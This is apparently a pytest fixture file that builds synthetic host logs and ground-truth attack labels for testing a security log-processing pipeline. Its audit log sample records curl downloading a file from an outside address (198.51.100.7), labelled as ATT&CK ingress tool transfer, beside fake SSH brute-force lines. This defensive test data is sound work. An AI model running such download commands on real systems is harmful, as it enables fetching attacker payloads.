"""A small store of host logs: one episode with a log of each kind and its truth, one without logs."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgspec
import pytest

from rlstir_core.contract.registry import load_registry
from rlstir_core.episodes.store.index import read_index
from rlstir_core.episodes.store.writer import IndexRecord, write_episode, write_index
from rlstir_core.episodes.validation.validate import HostValidation, validate_host
from rlstir_core.hostlogs.store import LogSummary, build_log_events
from rlstir_core.results.layout import Layout

HOST = "web1"
T0 = 1_714_564_800 * 10**9  # 2024-05-01 12:00:00 UTC
SECOND = 10**9

AUDIT = (
    "type=SYSCALL msg=audit(1714564801.000:7): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=0 "
    'uid=0 tty=pts0 comm="curl" exe="/usr/bin/curl" key="exec"\n'
    'type=EXECVE msg=audit(1714564801.000:7): argc=2 a0="curl" a1="http://198.51.100.7/x"\n'
    'type=PATH msg=audit(1714564801.000:7): item=0 name="/usr/bin/curl" nametype=NORMAL\n'
)
AUTH = (
    "May  1 12:00:02 web1 sshd[812]: Failed password for invalid user admin from 203.0.113.9 port 40022 ssh2\n"
    "May  1 12:00:02 web1 sshd[812]: Failed password for invalid user admin from 203.0.113.9 port 40022 ssh2\n"
    "\x00garbage\n"
)
JOURNAL = json.dumps(
    {
        "__REALTIME_TIMESTAMP": str((T0 + 3 * SECOND) // 1000),
        "_HOSTNAME": "WEB1.lab.local",
        "_PID": "1",
        "_EXE": "/usr/lib/systemd/systemd",
        "SYSLOG_IDENTIFIER": "systemd",
        "MESSAGE": "Started cron.service.",
    }
)
SYSMON = json.dumps(
    {
        "EventID": 1,
        "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": "web1",
        "UtcTime": "2024-05-01 12:00:04.000",
        "ProcessId": 42,
        "ParentProcessId": 7,
        "Image": "C:\\x.exe",
        "CommandLine": "x.exe <script>",
        "User": "LAB\\anna",
    }
)
TTP = [
    {"technique": "T1105", "tactic": "", "t_start_wall_ns": T0, "t_end_wall_ns": T0 + 2 * SECOND, "pids": [901]},
    {"technique": "T1562.001", "tactic": "", "t_start_wall_ns": T0, "t_end_wall_ns": T0 + 9 * SECOND, "pids": []},
    {"technique": "", "tactic": "Impact", "t_start_wall_ns": T0, "t_end_wall_ns": T0 + 9 * SECOND},
    {"technique": "nonsense", "t_start_wall_ns": T0, "t_end_wall_ns": T0},
]
TAMPER = [
    {
        "t_start_wall_ns": T0 + 2 * SECOND,
        "t_end_wall_ns": T0 + 2 * SECOND,
        "channel": "auth",
        "kind": "drop-channel",
        "n_removed": 3,
    }
]


@dataclass
class LogStore:
    """A store of one host that tests add to."""

    store: Path
    layout: Layout
    records: dict[str, IndexRecord]

    def add(self, episode: str, host: str = HOST, **members: bytes | str) -> None:
        """An episode with log members: `audit_log='…'` becomes `logs/audit.log`, `gt_…` a truth."""
        meta = {
            "episode_id": episode,
            "host_id": host,
            "profile": "io-walk",
            "sample_name": "s",
            "benign": False,
            "t_start_wall_ns": T0,
            "t_end_wall_ns": T0 + 10 * SECOND,
        }
        extra = {}
        for name, data in members.items():
            member = f"{name}.json" if name.startswith("gt_") else "logs/" + name.replace("_", ".", 1)
            extra[member] = data.encode() if isinstance(data, str) else data
        self.records[episode] = write_episode(self.store, meta, (), {}, extra)
        write_index(self.store, self.records.values())

    def drop(self, episode: str) -> None:
        (self.store / str(self.records.pop(episode)["path"])).unlink()
        write_index(self.store, self.records.values())

    def validate(self, host: str = HOST) -> HostValidation:
        index = read_index(self.store)
        return validate_host(self.store, self.layout, host, registry=load_registry(self.store), index=index)

    def build(self, host: str = HOST) -> LogSummary:
        self.validate(host)
        return build_log_events(self.store, self.layout, host)

    def files(self) -> dict[str, bytes]:
        folder = self.layout.log_events(HOST)
        return {path.name: path.read_bytes() for path in folder.iterdir() if not path.name.startswith("_")}


@pytest.fixture
def logs(tmp_path: Path) -> LogStore:
    found = LogStore(tmp_path / "store", Layout(tmp_path / "data"), {})
    truth: dict[str, Any] = {
        "gt_ttp_sequence": msgspec.json.encode(TTP),
        "gt_tamper_spans": msgspec.json.encode(TAMPER),
    }
    found.add("ep-1", audit_log=AUDIT, auth_log=AUTH, journal_jsonl=JOURNAL, sysmon_jsonl=SYSMON, **truth)
    found.add("quiet")
    return found
